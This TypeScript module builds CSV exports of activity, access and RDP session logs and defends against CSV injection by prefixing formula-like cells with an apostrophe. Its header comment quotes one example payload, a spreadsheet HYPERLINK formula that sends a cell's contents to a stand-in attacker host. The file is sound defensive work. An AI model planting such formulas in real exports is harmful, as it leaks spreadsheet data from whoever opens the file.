// Every CSV document the sidecar produces (activity log, access log, RDP session history) comes from
// here: csv-stringify (RFC 4180: quoted where needed, header row) with formula escaping, so that a
// value someone else chose (a visitor's User-Agent or URI, a user name, a peer's name, an activity
// message) opens in a spreadsheet as text, never as a formula (CSV injection, e.g.
// `=HYPERLINK("http://evil.example/?x="&A1,"click")`).
//
// A text value is prefixed with `'` when it starts with = + - @, their full-width forms, tab, CR or
// LF, also after leading spaces or control characters (spreadsheets skip those before a formula).
// Numbers are left as they are (a negative number is not a formula). Objects are written as JSON.
import { stringify } from 'csv-stringify/sync';

const FORMULA = /^[\s\p{Cc}]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/u;

/** A cell value as it goes into the CSV: null/undefined empty, objects as JSON, formula-like text escaped. */
export function csvCell(v: unknown): string | number | boolean | null {
  if (v === null || v === undefined) return null;
  if (typeof v === 'number' || typeof v === 'boolean') return v;
  if (typeof v === 'bigint') return v.toString();
  const s = typeof v === 'object' ? (v instanceof Date ? v.toISOString() : JSON.stringify(v)) : String(v);
  return FORMULA.test(s) ? `'${s}` : s;
}

/** A CSV document: a header row of `columns`, then one line per row (the row's value of each column). */
export function toCsv<T extends object>(rows: readonly T[], columns: readonly (keyof T & string)[], o: { recordDelimiter?: string } = {}): string {
  return stringify(
    rows.map((r) => columns.map((c) => csvCell(r[c]))),
    {
      header: true,
      columns: columns.map((c) => String(csvCell(c))),
      escape_formulas: true,
      ...(o.recordDelimiter ? { record_delimiter: o.recordDelimiter } : {}),
    },
  );
}
